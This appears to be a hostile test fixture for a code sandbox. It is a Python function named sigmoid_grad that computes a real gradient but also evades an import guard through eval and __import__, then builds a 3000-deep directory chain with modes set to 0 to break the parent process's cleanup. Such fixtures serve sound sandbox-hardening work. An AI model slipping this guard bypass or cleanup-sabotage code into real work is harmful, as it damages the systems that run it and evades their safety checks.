"""Hostile: a directory chain 3000 deep in the scratch space (built with relative paths), with
its modes set to 0, for the warm parent to clean up after the job."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
np = _m("numpy")


def sigmoid_grad(x):
    start = os.open(".", os.O_RDONLY)
    try:
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        for _ in range(3000):
            os.chdir("..")
            os.chmod("d", 0)
    except OSError as exc:
        print("stopped:", exc)
    os.fchdir(start)
    s = 0.5 * (1.0 + np.tanh(0.5 * x))
    return s * (1.0 - s)
